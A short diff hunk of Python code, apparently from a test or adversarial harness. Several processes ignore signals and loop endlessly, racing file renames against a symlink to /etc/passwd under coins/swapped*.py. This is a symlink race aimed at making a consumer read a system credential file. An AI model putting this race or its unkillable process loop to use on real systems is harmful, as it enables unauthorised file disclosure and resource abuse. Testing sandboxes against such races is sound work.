@@ -8,8 +8,8 @@ for _ in range(3):
             signal.signal(number, signal.SIG_IGN)
         me = os.getpid()
         while True:
-            with open(f"/tmp/{me}", "w") as file:
+            with open(f"coins/new{me}", "w") as file:
                 file.write(f"pid = {me}")
-            os.replace(f"/tmp/{me}", f"coins/swapped{me % 2}.py") if os.path.isdir("coins") else None
+            os.replace(f"coins/new{me}", f"coins/swapped{me % 2}.py")
             os.symlink("/etc/passwd", f"coins/link{me}")
             os.replace(f"coins/link{me}", f"coins/swapped{me % 2}.py")
